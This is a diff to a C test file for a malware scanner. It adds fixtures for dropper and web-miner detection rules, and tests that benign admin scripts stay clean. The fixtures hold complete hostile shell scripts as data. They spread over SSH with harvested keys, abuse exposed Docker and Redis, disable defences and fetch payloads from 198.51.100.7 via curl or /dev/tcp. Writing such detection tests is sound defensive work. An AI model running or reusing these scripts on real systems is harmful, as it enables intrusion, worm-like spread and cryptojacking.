@@ -24,6 +24,7 @@
 #include <time.h>
 
 #include "iocs.h"
+#include "wallet.h"
 #include "util.h"
 
 enum kind { K_TEXT, K_ELF, K_PE, K_WASM };
@@ -118,6 +119,68 @@ static const fixture fixtures[] = {
     {"dropper_miner_install", K_TEXT, "get.sh",
      "#!/bin/sh\nwget -q http://198.51.100.7/xmrig -O /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n"
      "nohup /tmp/.x/xmrig -o stratum+tcp://mine.example.net:3333 -u W -p x &\n"},
+
+    /* ---- dropper_behaviour.yar: droppers that never name a miner ---- */
+    {"dropper_kill_by_cpu", K_TEXT, "cpu.sh",
+     "#!/bin/sh\nps aux | grep -v grep | awk '{if($3>40.0) print $2}' | xargs -r kill -9\n"},
+    {"dropper_kill_list", K_TEXT, "rivals.sh",
+     "#!/bin/sh\npkill -f ksoftirqds\npkill -f watchbog\npkill -f sysguard\npkill -f networkservice\n"
+     "pkill -f sysupdate\npkill -f phpguard\npkill -f dbused\npkill -f zzh\npkill -f .javae\n"
+     "pkill -f solr.sh\npkill -f /tmp/.sh\npkill -f kthreaddk\n"},
+    {"dropper_rival_cleanup", K_TEXT, "clean2.sh",
+     "#!/bin/sh\nchattr -ia /var/spool/cron/root /root/.ssh/authorized_keys\ncrontab -r\n"
+     "rm -f /root/.ssh/authorized_keys\nuserdel -r -f hilde\n"},
+    {"dropper_defense_off", K_TEXT, "off.sh",
+     "#!/bin/sh\nsetenforce 0 2>/dev/null\nufw disable\necho 0 > /proc/sys/kernel/nmi_watchdog\n"},
+    {"dropper_ssh_key_spread", K_TEXT, "spread.sh",
+     "#!/bin/bash\nKEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -v pub)\n"
+     "HOSTS=$(cat ~/.ssh/known_hosts /root/.bash_history 2>/dev/null | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}')\n"
+     "for h in $HOSTS; do for k in $KEYS; do\n"
+     "  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $k root@$h "
+     "\"(curl -fsSL http://198.51.100.7/s.sh || wget -q -O- http://198.51.100.7/s.sh) | sh\" &\n"
+     "done; done\n"},
+    {"dropper_container_api_spread", K_TEXT, "dock.sh",
+     "#!/bin/sh\nmasscan 198.51.100.0/24 -p2375 --rate 10000 | awk '{print $6}' > /tmp/h.txt\n"
+     "for ip in $(cat /tmp/h.txt); do\n"
+     "  docker -H tcp://$ip:2375 run -d --privileged -v /:/host alpine chroot /host sh -c "
+     "'curl -s http://198.51.100.7/d.sh | sh'\ndone\n"},
+    {"dropper_redis_cron_write", K_TEXT, "r.sh",
+     "#!/bin/sh\nfor ip in $(cat ips); do\n"
+     "redis-cli -h $ip -p 6379 set x \"\\n*/2 * * * * root curl -fsSL http://198.51.100.7/r.sh | sh\\n\"\n"
+     "redis-cli -h $ip config set dir /var/spool/cron\nredis-cli -h $ip config set dbfilename root\n"
+     "redis-cli -h $ip save\ndone\n"},
+    {"dropper_devtcp_download", K_TEXT, "get2.sh",
+     "#!/bin/bash\nexec 3<>/dev/tcp/198.51.100.7/80\n"
+     "printf 'GET /b HTTP/1.0\\r\\nHost: 198.51.100.7\\r\\n\\r\\n' >&3\n"
+     "sed '1,/^\\r$/d' <&3 > /tmp/.b\nchmod +x /tmp/.b\n/tmp/.b &\n"},
+    {"dropper_hidden_stage_exec", K_TEXT, "stage.sh",
+     "#!/bin/sh\ncurl -fsSL http://198.51.100.7/k -o /dev/shm/.kthread\nchmod +x /dev/shm/.kthread\n"
+     "nohup /dev/shm/.kthread >/dev/null 2>&1 &\n"},
+    {"dropper_behaviour_chain", K_TEXT, "chain.sh",
+     "#!/bin/sh\niptables -F\nhistory -c\n"
+     "netstat -anp | grep :4444 | awk '{print $7}' | cut -d/ -f1 | xargs kill -9\n"
+     "curl -s http://198.51.100.7/n.sh | sh\n"},
+
+    /* ---- webminer_bridges.yar ---- */
+    {"webminer_stratum_ws_bridge", K_TEXT, "bridge.js",
+     "const WebSocket = require('ws');\nconst net = require('net');\n"
+     "const wss = new WebSocket.Server({ port: 8892 });\n"
+     "wss.on('connection', (ws) => {\n  const pool = net.connect(3333, 'pool.example.net');\n"
+     "  ws.on('message', (m) => { const d = JSON.parse(m);\n"
+     "    pool.write(JSON.stringify({ id: 1, method: 'login', params: { login: d.user } }) + '\\n'); });\n"
+     "  pool.on('data', (b) => ws.send(b.toString()));\n"
+     "  setInterval(() => pool.write(JSON.stringify({ id: 2, method: 'keepalived' }) + '\\n'), 30000);\n"
+     "  // submit: { job_id, nonce, result }\n});\n"},
+    {"webminer_coinhive_proxy", K_TEXT, "ch.js",
+     "function onMessage(d) {\n  if (d.type === 'auth') { login(d.params.site_key); }\n"
+     "  if (d.type === 'submit') { send('submit', d.params.job_id); }\n}\n"
+     "function accepted(n) { ws.send(JSON.stringify({ type: 'hash_accepted', params: { hashes: n } })); }\n"
+     "function authed() { ws.send(JSON.stringify({ type: 'authed', params: { token: '', hashes: 0 } })); }\n"},
+    {"webminer_wasm_randomx", K_WASM, "rx.wasm", "randomx_create_vm\nrandomx_calculate_hash\nrandomx_init_cache"},
+    {"webminer_js_randomx", K_TEXT, "rx.js",
+     "const sock = new WebSocket('wss://pool.example.net/ws');\n"
+     "const n = navigator.hardwareConcurrency;\nfor (let i = 0; i < n; i++) workers.push(new Worker('randomx-worker.js'));\n"
+     "WebAssembly.instantiate(bytes);\nsock.onmessage = (e) => { const j = JSON.parse(e.data); start(j.job_id, j.seed_hash); };\n"},
 
     /* ---- webminers.yar ---- */
     {"webminer_coinhive", K_TEXT, "index.html",
@@ -389,6 +452,76 @@ Test(signatures, every_rule_has_a_fixture) {
         cr_assert(found, "fixture names unknown rule %s", fixtures[k].rule);
     }
     free(l);
+}
+
+/* ---- one weak signal is not a dropper (issue 10, part 3) ---- */
+
+/* Each of these does one thing a dropper does, the way an admin script
+ * does it: no rule of dropper_behaviour.yar may fire on them. */
+/* Issue 9: what stock Debian packages hold and once fired. A database's
+ * header that tells admins to reserve huge pages (rocksdb), and QEMU's
+ * documentation piping a decoded key into sha256sum, are not droppers. */
+Test(signatures, documentation_that_names_tuning_or_base64_is_clean, .timeout = 60) {
+    static const char *const texts[][2] = {
+        {"table.h", "// To reserve huge pages for the block cache:\n"
+                    "//                          sysctl -w vm.nr_hugepages=20\n"
+                    "struct TableOptions { size_t huge_page_tlb_size; };\n"},
+        {"images.html", "<pre>$ for key in `grep 10.33.8.112 known_hosts | awk '{print $3}'`\n"
+                        "  do\n    echo $key | base64 -d | sha256sum\n  done\n</pre>\n"},
+    };
+    char *dir = t_mkdtemp();
+    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+        char *path = t_write_str(dir, texts[i][0], texts[i][1]);
+        t_result res;
+        json_t *recs = scan(path, &res);
+        cr_assert_eq(res.status, 0, "%s flagged: %s", texts[i][0], res.out);
+        json_decref(recs);
+        t_result_free(&res);
+        free(path);
+    }
+    t_rmtree(dir);
+    free(dir);
+}
+
+Test(signatures, behaviour_rules_need_several_signals, .timeout = 120) {
+    static const char *const texts[] = {
+        "#!/bin/sh\n# flush and reload the firewall\niptables -F\niptables -X\niptables-restore < /etc/iptables/rules.v4\n",
+        "#!/bin/sh\npkill -f food\nkillall -q barsync\nrm -f /tmp/food.sock\n",
+        "#!/bin/sh\nsetenforce 0\nmake test\nsetenforce 1\n",
+        "#!/bin/sh\nhistory -c\nclear\n",
+        "#!/bin/sh\nssh -o StrictHostKeyChecking=no deploy@build.example.net 'systemctl restart app'\n",
+        "#!/bin/sh\ncurl -fsSL https://get.example.net/install.sh | sh\n",
+        "#!/bin/bash\nif echo > /dev/tcp/127.0.0.1/5432; then echo up; fi\n",
+        "#!/bin/sh\ncrontab -l > /tmp/cron.bak\ndocker -H unix:///var/run/docker.sock ps\n",
+    };
+    char *dir = t_mkdtemp();
+    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+        char name[32];
+        snprintf(name, sizeof(name), "admin%zu.sh", i);
+        char *path = t_write_str(dir, name, texts[i]);
+        t_result res;
+        json_t *recs = scan(path, &res);
+        json_t *rec = t_find_record(recs, path);
+        cr_assert_not_null(rec, "%s", res.out);
+        size_t k;
+        json_t *h;
+        json_array_foreach(json_object_get(rec, "rules"), k, h) {
+            const char *rule = json_string_value(json_object_get(h, "rule"));
+            static const char *const ours[] = {"dropper_kill_by_cpu", "dropper_kill_list", "dropper_rival_cleanup",
+                                               "dropper_defense_off", "dropper_ssh_key_spread",
+                                               "dropper_container_api_spread", "dropper_redis_cron_write",
+                                               "dropper_devtcp_download", "dropper_hidden_stage_exec",
+                                               "dropper_behaviour_chain"};
+            for (size_t o = 0; o < sizeof(ours) / sizeof(ours[0]); o++)
+                cr_assert_str_neq(rule, ours[o], "%s fired on admin script %zu", rule, i);
+        }
+        cr_assert_str_eq(verdict_of(rec), "clean", "admin script %zu: %s", i, res.out);
+        json_decref(recs);
+        t_result_free(&res);
+        free(path);
+    }
+    t_rmtree(dir);
+    free(dir);
 }
 
 /* ---- decoded base64 payloads are members ---- */
